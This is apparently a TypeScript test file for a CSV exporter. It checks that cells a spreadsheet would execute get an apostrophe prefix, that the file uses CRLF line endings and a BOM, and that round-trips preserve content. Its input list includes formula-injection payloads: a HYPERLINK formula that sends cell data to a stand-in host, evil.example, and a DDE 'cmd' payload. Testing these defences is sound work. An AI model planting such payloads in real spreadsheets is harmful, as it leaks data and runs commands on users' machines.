import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readCsv, rearm } from '#tests/support/files/csv.ts'
import { csvLines, csvStart } from './csv.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+201001234567',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  "'=1+1",
  "''+1",
  '＝1+1',
]

test('F5 CON-D9 cells that a spreadsheet would execute get an apostrophe', () => {
  for (const formula of formulas) expect(readCsv(csvLines([[formula]]))[0]![0]!.slice(0, 2), formula).toBe(`'${formula[0]}`)
  for (const plain of ['a=b', "St Mark's", "'tis", '', '0', ' =1']) expect(readCsv(csvLines([[plain]]))).toEqual([[plain]])
})

test('F5 CON-D9 lines end with CRLF, the file begins with a BOM, and quotes, commas and breaks stay in their cell', () => {
  expect(csvStart).toBe('\uFEFF')
  expect(csvLines([['a', 1, true, null, 'b,c', 'say "x"', 'two\r\nlines']])).toBe(
    'a,1,true,,"b,c","say ""x""","two\r\nlines"\r\n',
  )
})

test('F5 a written file reads back the same', () => {
  const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', 'a', 'ⲁ', 'م', '＝') })
  const rows = fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 })
  let cells = 0
  fc.assert(
    fc.property(rows, (written) => {
      const read = readCsv(csvStart + csvLines(written))
      cells += written.flat().length
      expect(read.map((row) => row.map(rearm))).toEqual(written)
      for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
    }),
    { numRuns: 2_000 },
  )
  console.info(`F5 ${cells} cells written and read again, 0 that a spreadsheet would run, 0 changed`)
})
